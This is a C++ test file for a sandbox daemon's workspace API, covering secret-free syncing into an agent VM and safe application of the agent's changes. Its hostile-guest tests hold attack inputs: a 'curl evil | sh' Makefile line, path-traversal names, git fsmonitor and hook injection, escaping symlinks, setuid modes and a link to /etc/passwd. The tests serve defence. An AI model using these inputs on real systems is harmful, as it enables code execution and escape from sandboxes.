// The workspace routes end to end in-process: real HTTP, real SQLite, the real guest agent and
// the real `abox-guest ws` tools; only the VM is fake, so the guest's /workspace is a directory
// on this host (guest_path). Real VMs: tests/e2e/workspace_e2e_test.cc.
#include <archive.h>
#include <archive_entry.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <optional>
#include <sstream>
#include <thread>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "src/base/self_path.h"
#include "src/base/status_macros.h"
#include "src/daemon/testing/test_daemon.h"
#include "src/runtime/agent_guest_tools.h"
#include "src/workspace/apply_test_util.h"
#include "src/workspace/archive.h"
#include "src/workspace/guest_tools.h"
#include "src/workspace/manifest.h"
#include "src/workspace/paths.h"
#include "src/workspace/sha256.h"
#include "src/workspace/testing/scratch_tree.h"

namespace abox::daemon {
namespace {

namespace fs = std::filesystem;
using http::httptest::HttpTestClient;
using http::httptest::Response;
using http::httptest::TempDir;
using ::testing::HasSubstr;
using ::testing::Not;

std::string ReadAll(const fs::path& p) { return workspace::testing::ReadWholeFile(p); }

void WriteAll(const fs::path& p, const std::string& data) {
  workspace::testing::WriteWholeFile(p, data);
}

int Sh(const std::string& cmd) { return std::system(cmd.c_str()); }  // NOLINT

// What `cmd` prints on stdout (the test fails if it cannot run or exits non-zero).
std::string GitOut(const std::string& cmd) {
  std::string out;
  FILE* p = ::popen(cmd.c_str(), "r");  // NOLINT(cert-env33-c)
  EXPECT_NE(p, nullptr) << cmd;
  if (p == nullptr) {
    return out;
  }
  char buf[4096];
  for (size_t n; (n = std::fread(buf, 1, sizeof(buf), p)) > 0;) {
    out.append(buf, n);
  }
  EXPECT_EQ(::pclose(p), 0) << cmd;
  return out;
}

class WorkspaceApiTest : public ::testing::Test {
 protected:
  void SetUp() override {
    host_ = fs::path(tmp_.path()) / "repo";
    guest_ = fs::path(tmp_.path()) / "guest";
    fs::create_directories(host_);
    fs::create_directories(guest_);
    // A git repo with a secret, an ignored build dir and a credential helper in .git/config.
    WriteAll(host_ / "src/main.c", "int main(void) {\n  return 0;\n}\n");
    WriteAll(host_ / "README.md", "line 1\nline 2\nline 3\nline 4\nline 5\n");
    WriteAll(host_ / ".env", "API_KEY=hunter2\n");
    WriteAll(host_ / ".gitignore", "build/\n");
    WriteAll(host_ / "build/out.o", "object");
    WriteAll(host_ / "Makefile", "all:\n\tcc src/main.c\n");
    std::string git = absl::StrCat("cd ", host_.string(),
                                   " && GIT_CONFIG_GLOBAL=/dev/null git -c user.name=t -c "
                                   "user.email=t@e ");
    // The secret is committed, then removed from git and committed again: it stays in the
    // history (and in the worktree, untracked).
    ASSERT_EQ(
        Sh(git +
           "init -q . && git config credential.helper store && git remote add "
           "origin https://user:tok123@example.com/r.git && git add -A && " +
           git + "commit -qm init && git rm -q --cached .env && " + git + "commit -qm 'drop .env'"),
        0);
    daemon_ = std::make_unique<testing::TestDaemon>(home_.path());
    daemon_->Start();
    client_ = daemon_->Connect();
    ASSERT_NE(client_, nullptr);
  }
  void TearDown() override {
    client_.reset();
    daemon_.reset();
    (void)abox::testing::FakeVmm::KillAll();
  }

  Response Call(absl::string_view method, absl::string_view target, absl::string_view body = "") {
    daemon_->ReconnectIfClosed(client_);
    absl::StatusOr<Response> r = client_->Request(method, target, body);
    EXPECT_TRUE(r.ok()) << method << " " << target << ": " << r.status();
    return r.ok() ? *r : Response{};
  }

  std::string Create() {
    nlohmann::json body = {
        {"workspace", {{"path", host_.string()}, {"guest_path", guest_.string()}}}};
    Response r = Call("POST", "/v1/sandboxes", body.dump());
    EXPECT_EQ(r.status, 201) << r.body;
    return r.Json().value("id", "");
  }

  Response Post(const std::string& id, const std::string& what, const nlohmann::json& body) {
    return Call("POST", absl::StrCat("/v1/sandboxes/", id, "/", what), body.dump());
  }

  nlohmann::json Diff(const std::string& id, const std::string& query = "") {
    Response r = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/diff", query));
    EXPECT_EQ(r.status, 200) << r.body;
    return r.Json();
  }

  TempDir home_;
  TempDir tmp_;
  fs::path host_;
  fs::path guest_;
  std::unique_ptr<testing::TestDaemon> daemon_;
  std::unique_ptr<HttpTestClient> client_;
};

TEST_F(WorkspaceApiTest, CreateSyncsTheFileSetWithoutSecretsHooksOrCredentials) {
  std::string id = Create();
  EXPECT_EQ(ReadAll(guest_ / "src/main.c"), ReadAll(host_ / "src/main.c"));
  EXPECT_TRUE(fs::exists(guest_ / "Makefile"));
  EXPECT_FALSE(fs::exists(guest_ / ".env")) << "a secret-looking file went in";
  EXPECT_FALSE(fs::exists(guest_ / "build/out.o")) << "an ignored file went in";
  EXPECT_TRUE(fs::exists(guest_ / ".git/HEAD"));
  EXPECT_FALSE(fs::exists(guest_ / ".git/hooks"));
  std::string config = ReadAll(guest_ / ".git/config");
  EXPECT_THAT(config, Not(HasSubstr("tok123")));
  EXPECT_THAT(config, Not(HasSubstr("helper = store")));
  // git works on the copy: one commit, a clean tree...
  std::string git = absl::StrCat("cd ", guest_.string(), " && git -c safe.directory='*' ");
  EXPECT_EQ(GitOut(git + "status --porcelain"), "");
  EXPECT_EQ(GitOut(git + "rev-list --all --count"), "1\n");
  // ...and neither its history, nor its objects, nor any file holds the secret.
  EXPECT_THAT(GitOut(git + "log -p --all"), Not(HasSubstr("hunter2")));
  EXPECT_THAT(GitOut(git + "cat-file --batch-all-objects --batch"), Not(HasSubstr("hunter2")));
  EXPECT_EQ(GitOut(absl::StrCat("grep -rl hunter2 ", guest_.string(), " || true")), "");
  nlohmann::json sandbox = Call("GET", absl::StrCat("/v1/sandboxes/", id)).Json();
  EXPECT_EQ(sandbox["workspace"]["path"], host_.string());
  EXPECT_EQ(sandbox["workspace"]["syncs"], 1);
  // Nothing changed in the guest yet.
  EXPECT_TRUE(Diff(id)["files"].empty());
}

TEST_F(WorkspaceApiTest, SyncSendsChangesDeletionsAndRenamesOnly) {
  std::string id = Create();
  WriteAll(host_ / "README.md", "changed on the host\n");
  fs::rename(host_ / "src/main.c", host_ / "src/app.c");
  Response r = Post(id, "sync", nlohmann::json::object());
  ASSERT_EQ(r.status, 200) << r.body;
  nlohmann::json report = r.Json();
  EXPECT_TRUE(report["changed"].get<bool>());
  EXPECT_EQ(report["files"], 2) << report.dump();  // README.md, src/app.c
  EXPECT_EQ(report["deleted"], 1);
  EXPECT_EQ(ReadAll(guest_ / "README.md"), "changed on the host\n");
  EXPECT_TRUE(fs::exists(guest_ / "src/app.c"));
  EXPECT_FALSE(fs::exists(guest_ / "src/main.c"));
  // Unchanged: the guest is not contacted again.
  r = Post(id, "sync", nlohmann::json::object());
  EXPECT_FALSE(r.Json()["changed"].get<bool>()) << r.body;
  // The sync never touches the host: a file the agent created stays in the guest only.
  WriteAll(guest_ / "agent-notes.txt", "mine");
  WriteAll(host_ / "README.md", "again\n");
  ASSERT_EQ(Post(id, "sync", nlohmann::json::object()).status, 200);
  EXPECT_TRUE(fs::exists(guest_ / "agent-notes.txt"));
  EXPECT_FALSE(fs::exists(host_ / "agent-notes.txt"));
}

TEST_F(WorkspaceApiTest, ExecSyncsFirstAndStartsInTheWorkspace) {
  std::string id = Create();
  WriteAll(host_ / "new.txt", "fresh\n");
  Response r = Post(id, "execs", {{"argv", {"sh", "-c", "pwd; cat new.txt"}}, {"user", "root"}});
  ASSERT_EQ(r.status, 201) << r.body;
  std::string exec = r.Json().value("id", "");
  Response wait = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/wait"));
  ASSERT_EQ(wait.status, 200) << wait.body;
  Response out = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/output"));
  EXPECT_THAT(out.body, HasSubstr("fresh"));
  EXPECT_THAT(out.body, HasSubstr(guest_.string()));
}

TEST_F(WorkspaceApiTest, DiffApplyAndUndoRoundTrip) {
  std::string id = Create();
  std::string readme_before = ReadAll(host_ / "README.md");
  // The agent edits, adds, deletes, and makes a file executable.
  WriteAll(guest_ / "README.md", "line 1\nline 2 (agent)\nline 3\nline 4\nline 5\n");
  WriteAll(guest_ / "docs/new.md", "new doc\n");
  fs::remove(guest_ / "src/main.c");
  nlohmann::json diff = Diff(id);
  ASSERT_EQ(diff["files"].size(), 3u) << diff.dump(1);
  std::string all;
  for (const auto& f : diff["files"]) {
    all += f.value("patch", "");
  }
  EXPECT_THAT(all, HasSubstr("+line 2 (agent)"));
  EXPECT_THAT(all, HasSubstr("new file mode 100644"));
  EXPECT_THAT(all, HasSubstr("deleted file mode"));
  nlohmann::json stat = Diff(id, "?stat=true");
  EXPECT_FALSE(stat["files"][0].contains("patch"));

  // Meanwhile the person edits another line of README.md on the host: a clean merge.
  WriteAll(host_ / "README.md", "line 1\nline 2\nline 3\nline 4\nline 5 (host)\n");
  std::string readme_host = ReadAll(host_ / "README.md");
  Response dry = Post(id, "apply", {{"dry_run", true}});
  ASSERT_EQ(dry.status, 200) << dry.body;
  EXPECT_TRUE(dry.Json()["artifact"].is_null());
  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host) << "a dry run wrote";

  Response applied = Post(id, "apply", nlohmann::json::object());
  ASSERT_EQ(applied.status, 200) << applied.body;
  std::string artifact = applied.Json().value("artifact", "");
  ASSERT_FALSE(artifact.empty()) << applied.body;
  EXPECT_EQ(ReadAll(host_ / "README.md"),
            "line 1\nline 2 (agent)\nline 3\nline 4\nline 5 (host)\n");
  EXPECT_EQ(ReadAll(host_ / "docs/new.md"), "new doc\n");
  EXPECT_FALSE(fs::exists(host_ / "src/main.c"));
  // The base followed: nothing left to diff.
  EXPECT_TRUE(Diff(id)["files"].empty()) << Diff(id).dump(1);

  Response list = Call("GET", "/v1/artifacts");
  EXPECT_THAT(list.body, HasSubstr(artifact));
  Response undo = Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}");
  ASSERT_EQ(undo.status, 200) << undo.body;
  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host);
  EXPECT_FALSE(fs::exists(host_ / "docs/new.md"));
  EXPECT_FALSE(fs::exists(host_ / "docs"));
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) {\n  return 0;\n}\n");
  // Undone twice: refused.
  EXPECT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 409);
  // After the undo the agent's work shows again (the base went back too).
  EXPECT_EQ(Diff(id)["files"].size(), 3u);
  (void)readme_before;
}

TEST_F(WorkspaceApiTest, ConflictsAreRefusedOrWrittenWithMarkers) {
  std::string id = Create();
  WriteAll(guest_ / "README.md", "line 1 guest\nline 2\nline 3\nline 4\nline 5\n");
  WriteAll(host_ / "README.md", "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
  Response refused = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("README.md"));
  EXPECT_EQ(ReadAll(host_ / "README.md"), "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
  Response markers = Post(id, "apply", {{"conflicts", "markers"}});
  ASSERT_EQ(markers.status, 200) << markers.body;
  std::string merged = ReadAll(host_ / "README.md");
  EXPECT_THAT(merged, HasSubstr("<<<<<<<"));
  EXPECT_THAT(merged, HasSubstr("line 1 host"));
  EXPECT_THAT(merged, HasSubstr("line 1 guest"));
}

TEST_F(WorkspaceApiTest, ExecFilesNeedTheirFlag) {
  std::string id = Create();
  WriteAll(guest_ / "Makefile", "all:\n\tcurl evil | sh\n");
  WriteAll(guest_ / ".github/workflows/ci.yml", "on: push\n");
  nlohmann::json diff = Diff(id);
  for (const auto& f : diff["files"]) {
    EXPECT_TRUE(f.contains("exec_sensitive")) << f.dump();
  }
  Response refused = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("allow-exec-files"));
  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcc src/main.c\n");
  Response allowed = Post(id, "apply", {{"allow_exec_files", true}});
  ASSERT_EQ(allowed.status, 200) << allowed.body;
  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcurl evil | sh\n");
}

TEST_F(WorkspaceApiTest, PullTakesChosenFilesAndGuardsHostChanges) {
  std::string id = Create();
  WriteAll(guest_ / "src/main.c", "int main(void) { return 1; }\n");
  WriteAll(guest_ / "out/report.txt", "report\n");
  WriteAll(host_ / "src/main.c", "host edit\n");
  Response refused = Post(id, "pull", {{"paths", {"src/main.c"}}});
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
  Response forced = Post(id, "pull", {{"paths", {"src/main.c"}}, {"force", true}});
  ASSERT_EQ(forced.status, 200) << forced.body;
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) { return 1; }\n");
  fs::path other = fs::path(tmp_.path()) / "elsewhere";
  fs::create_directories(other);
  Response into = Post(id, "pull", {{"paths", {"out/report.txt"}}, {"to", other.string()}});
  ASSERT_EQ(into.status, 200) << into.body;
  EXPECT_EQ(ReadAll(other / "out/report.txt"), "report\n");
  EXPECT_FALSE(fs::exists(host_ / "out/report.txt"));
  // Undo of the forced pull brings the host edit back.
  std::string artifact = forced.Json().value("artifact", "");
  ASSERT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 200);
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
}

// A guest whose workspace tools lie (what an agent with root in the guest can do): its
// manifest is the real one edited by `edit` plus raw `extra_lines`, and its pack holds `files`
// for the paths the host asks for, then whatever `pack_more` adds, or is `raw_pack` as is.
struct HostileGuest {
  std::function<void(workspace::Manifest&)> edit;
  std::vector<std::string> extra_lines;
  std::map<std::string, std::string> files;
  std::function<absl::Status(workspace::SyncArchiveWriter&)> pack_more;
  std::optional<std::string> raw_pack;
};

class HostileGuestTools final : public workspace::GuestTools {
 public:
  HostileGuestTools(workspace::GuestTools& real, HostileGuest guest)
      : real_(real), guest_(std::move(guest)) {}

  absl::Status Run(const std::vector<std::string>& args, const InputFn& input,
                   const OutputFn& output) override {
    if (!args.empty() && args[0] == "manifest") {
      std::string text;
      ABOX_RETURN_IF_ERROR(real_.Run(args, input, [&](absl::string_view out) {
        text.append(out.data(), out.size());
        return absl::OkStatus();
      }));
      ABOX_ASSIGN_OR_RETURN(workspace::Manifest m, workspace::ParseManifest(text));
      if (guest_.edit) {
        guest_.edit(m);
      }
      std::string crafted = workspace::SerializeManifest(m);
      for (const std::string& line : guest_.extra_lines) {
        absl::StrAppend(&crafted, line, "\n");
      }
      return output(crafted);
    }
    if (!args.empty() && args[0] == "pack") {
      std::string asked;
      if (input) {
        ABOX_RETURN_IF_ERROR(input([&](absl::string_view data) {
          asked.append(data.data(), data.size());
          return absl::OkStatus();
        }));
      }
      if (guest_.raw_pack) {
        return output(*guest_.raw_pack);
      }
      std::string archive;
      ABOX_ASSIGN_OR_RETURN(auto writer,
                            workspace::SyncArchiveWriter::Create([&](absl::string_view data) {
                              archive.append(data.data(), data.size());
                              return absl::OkStatus();
                            }));
      for (absl::string_view path : absl::StrSplit(asked, '\0', absl::SkipEmpty())) {
        auto it = guest_.files.find(std::string(path));
        if (it == guest_.files.end()) {
          continue;  // left out (or sent otherwise by pack_more)
        }
        workspace::Entry e;
        e.size = it->second.size();
        ABOX_RETURN_IF_ERROR(writer->AddData(it->first, e, it->second));
      }
      if (guest_.pack_more) {
        ABOX_RETURN_IF_ERROR(guest_.pack_more(*writer));
      }
      ABOX_RETURN_IF_ERROR(writer->Finish());
      return output(archive);
    }
    return real_.Run(args, input, output);  // unpack (sync): the real tool
  }

 private:
  workspace::GuestTools& real_;
  HostileGuest guest_;
};

workspace::Entry FileEntry(const std::string& content, uint32_t mode = 0644) {
  workspace::Entry e;
  e.mode = mode;
  e.size = content.size();
  e.sha256 = workspace::Sha256Hex(content);
  return e;
}

workspace::Entry LinkEntry(const std::string& target) {
  workspace::Entry e;
  e.type = workspace::EntryType::kSymlink;
  e.mode = 0;
  e.link_target = target;
  return e;
}

// A zstd pax archive of regular files under any names, written with libarchive directly
// (SyncArchiveWriter refuses bad names, as an honest guest's tool does).
std::string RawPack(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string out;
  struct archive* a = archive_write_new();
  EXPECT_EQ(archive_write_set_format_pax_restricted(a), ARCHIVE_OK);
  EXPECT_EQ(archive_write_add_filter_zstd(a), ARCHIVE_OK);
  EXPECT_EQ(archive_write_set_bytes_in_last_block(a, 1), ARCHIVE_OK);
  EXPECT_EQ(archive_write_open(
                a, &out, nullptr,
                [](struct archive*, void* sink, const void* buf, size_t len) -> la_ssize_t {
                  static_cast<std::string*>(sink)->append(static_cast<const char*>(buf), len);
                  return static_cast<la_ssize_t>(len);
                },
                nullptr),
            ARCHIVE_OK)
      << archive_error_string(a);
  for (const auto& [path, content] : files) {
    struct archive_entry* e = archive_entry_new();
    archive_entry_copy_pathname(e, path.c_str());
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_size(e, static_cast<la_int64_t>(content.size()));
    EXPECT_EQ(archive_write_header(a, e), ARCHIVE_OK) << archive_error_string(a);
    archive_write_data(a, content.data(), content.size());
    archive_entry_free(e);
  }
  EXPECT_EQ(archive_write_close(a), ARCHIVE_OK) << archive_error_string(a);
  archive_write_free(a);
  return out;
}

mode_t ModeOf(const fs::path& p) {
  struct stat st {};
  EXPECT_EQ(::lstat(p.c_str(), &st), 0) << p;
  return st.st_mode & 07777;
}

TEST_F(WorkspaceApiTest, HostileGuestContentNeverEscapesTheHostTree) {
  std::string id = Create();
  fs::path outside = fs::path(tmp_.path()) / "outside";
  fs::create_directories(outside);
  // The host tree without .git (which abox never writes), compared without printing it.
  auto snapshot = [&] {
    auto all = workspace::testing::Snapshot(host_.string());
    std::erase_if(all, [](const auto& kv) { return workspace::IsUnderGitDir(kv.first); });
    return all;
  };
  auto hostile = [&](HostileGuest guest) {
    daemon_->set_guest_tools_wrapper([guest](workspace::GuestTools& real) {
      return std::make_unique<HostileGuestTools>(real, guest);
    });
  };
  auto nothing_escaped = [&] {
    EXPECT_TRUE(fs::is_empty(outside));
    EXPECT_FALSE(fs::exists(fs::path(tmp_.path()) / "pwned"));
    EXPECT_FALSE(fs::exists(host_ / ".git/hooks/pre-commit"));
    EXPECT_FALSE(fs::exists(host_ / "tools/.git"));
  };

  // 1. Names out of the tree, absolute, with a newline: the manifest is refused whole.
  for (const std::string& name : {std::string("../outside/pwned"), std::string("src/../../pwned"),
                                  (outside / "pwned").string(), std::string("a\nb")}) {
    SCOPED_TRACE(workspace::testing::EscapeForTrace(name));
    auto before = snapshot();
    hostile({.edit = [name](workspace::Manifest& m) { m[name] = FileEntry("pwned\n"); },
             .files = {{name, "pwned\n"}}});
    Response r = Post(id, "apply", {{"conflicts", "markers"}, {"allow_exec_files", true}});
    EXPECT_NE(r.status, 200) << r.body;
    EXPECT_THAT(r.body, HasSubstr("bad workspace manifest"));
    EXPECT_TRUE(snapshot() == before);
    nothing_escaped();
  }

  // 2. Git state at any depth, in any case, next to an honest change: the git paths never
  // come back (not even with --allow-exec-files), the rest does.
  const std::string fsmonitor = "[core]\n\tfsmonitor = touch " + (outside / "ran").string() + "\n";
  hostile({.edit =
               [&](workspace::Manifest& m) {
                 m["tools/.git/config"] = FileEntry(fsmonitor);
                 m["tools/.git/HEAD"] = FileEntry("ref: refs/heads/main\n");
                 m["sub/.git"] = FileEntry("gitdir: ../../outside\n");  // a gitlink file
                 m[".GIT/config"] = FileEntry(fsmonitor);
                 m[".git/hooks/pre-commit"] = FileEntry("#!/bin/sh\nevil\n", 0755);
                 m["notes.txt"] = FileEntry("honest work\n");
               },
           .files = {{"notes.txt", "honest work\n"},
                     {"tools/.git/config", fsmonitor},
                     {"sub/.git", "gitdir: ../../outside\n"}}});
  nlohmann::json diff = Diff(id);
  EXPECT_THAT(diff["files"].dump(), Not(HasSubstr(".git")));
  EXPECT_THAT(diff["files"].dump(), Not(HasSubstr(".GIT")));
  EXPECT_EQ(diff["ignored"], 4) << diff.dump();  // the nested ones; the root .git is the agent's
  Response r = Post(id, "apply", {{"allow_exec_files", true}});
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(ReadAll(host_ / "notes.txt"), "honest work\n");
  EXPECT_FALSE(fs::exists(host_ / "tools"));
  EXPECT_FALSE(fs::exists(host_ / "sub"));
  EXPECT_FALSE(fs::exists(host_ / ".GIT/config"));
  nothing_escaped();

  // 3. Symlinks each harmless by its text that together leave the tree: a -> . with
  // b -> a/.., a loop, and a chain of 50 links ending inside. Refused unless allowed by name.
  auto links = [](workspace::Manifest& m) {
    m["a"] = LinkEntry(".");
    m["b"] = LinkEntry("a/..");
    m["loop1"] = LinkEntry("loop2");
    m["loop2"] = LinkEntry("x/../loop1");
    for (int i = 0; i < 50; ++i) {
      m[absl::StrCat("chain/l", i)] =
          LinkEntry(i == 49 ? "../README.md" : absl::StrCat("l", i + 1));
    }
  };
  hostile({.edit = links});
  auto before = snapshot();
  r = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(r.status, 409) << r.body;
  EXPECT_THAT(r.body, HasSubstr("--allow-exec-files"));
  EXPECT_THAT(r.body,
              HasSubstr("b: a symlink pointing outside the workspace (a/.., through a -> .)"));
  EXPECT_THAT(r.body, HasSubstr("loop"));
  EXPECT_TRUE(snapshot() == before);
  Response dry = Post(id, "apply", {{"dry_run", true}});
  ASSERT_EQ(dry.status, 200) << dry.body;
  std::string refused = dry.Json()["exec_files_refused"].dump();
  for (const char* path : {"\"b\"", "\"loop1\"", "\"loop2\"", "\"chain/l0\""}) {
    EXPECT_THAT(refused, HasSubstr(path));
  }
  EXPECT_THAT(refused, Not(HasSubstr("\"a\"")));  // the root itself: inside
  EXPECT_THAT(refused, Not(HasSubstr("\"chain/l49\"")));
  nothing_escaped();
  // Taken by name, as before for links that leave: written as links, nothing through them.
  r = Post(id, "apply", {{"allow_exec_files", true}});
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(fs::read_symlink(host_ / "b"), "a/..");
  nothing_escaped();

  // 4. Modes the guest chose: setuid and world-writable land as 0755 / 0644.
  auto modes = [&](workspace::Manifest& m) {
    links(m);  // already applied: unchanged
    m["tool.sh"] = FileEntry("#!/bin/sh\necho hi\n", 06777);
    m["data.txt"] = FileEntry("shared\n", 0666);
    m["README.md"].mode = 0666;  // only the mode changes
  };
  hostile(
      {.edit = modes, .files = {{"tool.sh", "#!/bin/sh\necho hi\n"}, {"data.txt", "shared\n"}}});
  r = Post(id, "apply", nlohmann::json::object());
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(ModeOf(host_ / "tool.sh"), 0755u);
  EXPECT_EQ(ModeOf(host_ / "data.txt"), 0644u);
  EXPECT_EQ(ModeOf(host_ / "README.md"), 0644u);

  // 5. Packs that do not hold what the manifest promised, or more: refused, nothing written.
  // (Each promises a new file of its own content: content that a refused pack delivered
  // intact stays in the store, and what the store has is not asked for again.)
  auto promise = [&](const std::string& name) {
    return [&, name](workspace::Manifest& m) {
      modes(m);
      m[name] = FileEntry("promised " + name);
    };
  };
  std::vector<HostileGuest> packs;
  packs.push_back({.edit = promise("p0.txt"), .files = {{"p0.txt", "tampered"}}});
  packs.push_back({.edit = promise("p1.txt"),
                   .files = {{"p1.txt", "promised p1.txt"}},
                   .pack_more = [](workspace::SyncArchiveWriter& w) {
                     return w.AddData("README.md", FileEntry("unasked\n"), "unasked\n");
                   }});
  packs.push_back(
      {.edit = promise("p2.txt"),
       .raw_pack = RawPack({{"../outside/pwned", "pwned\n"}, {"p2.txt", "promised p2.txt"}})});
  packs.push_back({.edit = promise("p3.txt"),
                   .raw_pack = RawPack({{(outside / "pwned").string(), "pwned\n"},
                                        {"p3.txt", "promised p3.txt"}})});
  packs.push_back({.edit = promise("p4.txt"), .pack_more = [](workspace::SyncArchiveWriter& w) {
                     return w.AddData("p4.txt", LinkEntry("/etc/passwd"), "");
                   }});
  packs.push_back({.edit = promise("p5.txt")});  // sends nothing
  const char* why[] = {"changed in the sandbox", "not asked for",          "'..' components",
                       "absolute paths",         "changed in the sandbox", "went away"};
  ASSERT_EQ(packs.size(), std::size(why));
  for (size_t i = 0; i < packs.size(); ++i) {
    SCOPED_TRACE(absl::StrCat("pack ", i));
    before = snapshot();
    hostile(packs[i]);
    r = Post(id, "apply", nlohmann::json::object());
    EXPECT_NE(r.status, 200) << r.body;
    EXPECT_THAT(r.body, HasSubstr(why[i]));
    EXPECT_TRUE(snapshot() == before);
    EXPECT_FALSE(fs::exists(host_ / absl::StrCat("p", i, ".txt")));
    nothing_escaped();
  }

  // 6. A directory the guest made a symlink out of the tree, and a file "beneath" it: the
  // host's src/ is a directory and stays one (a conflict the host keeps its version of).
  hostile({.edit =
               [&](workspace::Manifest& m) {
                 modes(m);
                 m["src"] = LinkEntry(outside.string());
                 m["src/main.c"] = FileEntry("int main(void) { return 1; }\n");
               },
           .files = {{"src/main.c", "int main(void) { return 1; }\n"}}});
  r = Post(id, "apply", {{"conflicts", "markers"}, {"allow_exec_files", true}});
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_THAT(r.Json()["conflicts"].dump(), HasSubstr("\"src\""));
  EXPECT_TRUE(fs::is_directory(host_ / "src") && !fs::is_symlink(host_ / "src"));
  EXPECT_FALSE(fs::exists(outside / "main.c"));
  nothing_escaped();
  daemon_->set_guest_tools_wrapper(nullptr);
}

TEST_F(WorkspaceApiTest, FullGitHistoryIsRefusedWhileItHoldsASecret) {
  nlohmann::json body = {
      {"workspace",
       {{"path", host_.string()}, {"guest_path", guest_.string()}, {"git_history", true}}}};
  Response refused = Call("POST", "/v1/sandboxes", body.dump());
  EXPECT_EQ(refused.status / 100, 4) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("could not be synced in"));
  EXPECT_THAT(refused.body, HasSubstr(".env (.env) in commit"));
  EXPECT_FALSE(fs::exists(guest_ / ".git")) << "a refused history went in";
  EXPECT_EQ(GitOut(absl::StrCat("grep -rl hunter2 ", guest_.string(), " || true")), "");

  // A history without secrets goes in whole: both commits, the sanitized remote.
  fs::path clean = fs::path(tmp_.path()) / "clean";
  WriteAll(clean / "a.txt", "one\n");
  std::string git = absl::StrCat("cd ", clean.string(),
                                 " && GIT_CONFIG_GLOBAL=/dev/null git -c user.name=t -c "
                                 "user.email=t@e ");
  ASSERT_EQ(
      Sh(git + "init -q . && git remote add origin https://user:tok123@example.com/r.git && " +
         git + "add -A && " + git + "commit -qm one && echo two > a.txt && " + git +
         "commit -qam two"),
      0);
  fs::path guest2 = fs::path(tmp_.path()) / "guest2";
  fs::create_directories(guest2);
  body = {{"workspace",
           {{"path", clean.string()}, {"guest_path", guest2.string()}, {"git_history", true}}}};
  Response created = Call("POST", "/v1/sandboxes", body.dump());
  ASSERT_EQ(created.status, 201) << created.body;
  std::string in_guest = absl::StrCat("cd ", guest2.string(), " && git -c safe.directory='*' ");
  EXPECT_EQ(GitOut(in_guest + "log --format=%s"), "two\none\n");
  EXPECT_EQ(GitOut(in_guest + "remote get-url origin"), "https://example.com/r.git\n");
  EXPECT_EQ(GitOut(in_guest + "status --porcelain"), "");
  nlohmann::json sandbox =
      Call("GET", absl::StrCat("/v1/sandboxes/", created.Json().value("id", ""))).Json();
  EXPECT_EQ(sandbox["workspace"]["git_history"], true);
}

TEST_F(WorkspaceApiTest, BadRequestsSayWhatIsWrong) {
  Response missing =
      Call("POST", "/v1/sandboxes", R"({"workspace":{"path":"/nonexistent/abox-test"}})");
  EXPECT_EQ(missing.status, 400) << missing.body;
  EXPECT_THAT(missing.body, HasSubstr("/nonexistent/abox-test"));
  Response system = Call(
      "POST", "/v1/sandboxes",
      nlohmann::json{{"workspace", {{"path", host_.string()}, {"guest_path", "/etc"}}}}.dump());
  EXPECT_EQ(system.status, 400) << system.body;
  std::string plain = [&] {
    Response r = Call("POST", "/v1/sandboxes", "{}");
    return r.Json().value("id", "");
  }();
  Response no_ws = Post(plain, "sync", nlohmann::json::object());
  EXPECT_EQ(no_ws.status, 404) << no_ws.body;
  EXPECT_THAT(no_ws.body, HasSubstr("abox create -w"));
  std::string id = Create();
  EXPECT_EQ(Post(id, "apply", {{"conflicts", "maybe"}}).status, 400);
  EXPECT_EQ(Post(id, "pull", nlohmann::json::object()).status, 400);
  EXPECT_EQ(Post(id, "apply", {{"paths", {"../etc/passwd"}}}).status, 400);
  EXPECT_EQ(Post(id, "apply", {{"paths", {"no/such/file"}}}).status, 404);
  EXPECT_EQ(Call("POST", "/v1/artifacts/../../etc/undo", "{}").status / 100, 4);
}

}  // namespace
}  // namespace abox::daemon

namespace abox::daemon {
namespace {

// Issue item 5: a hostile guest's replaced `abox-guest` that never answers `ws manifest` or
// never reads `ws unpack` (the replaced tool a guest root can install; it runs through the
// real agent). `stuck` names the subcommand that hangs; the others run the real tool.
std::string WriteStuckTool(const fs::path& dir, const std::string& stuck, const std::string& mark) {
  auto real = base::FindCompanionBinary("abox-guest", "ABOX_GUEST_BIN");
  EXPECT_TRUE(real.ok()) << real.status();
  fs::path script = dir / ("stuck-" + stuck);
  WriteAll(script, absl::StrCat("#!/bin/sh\nif [ \"$2\" = ", stuck, " ]; then exec sleep ", mark,
                                "; fi\nexec ", real.ok() ? *real : "false", " \"$@\"\n"));
  fs::permissions(script, fs::perms::owner_all);
  return script.string();
}

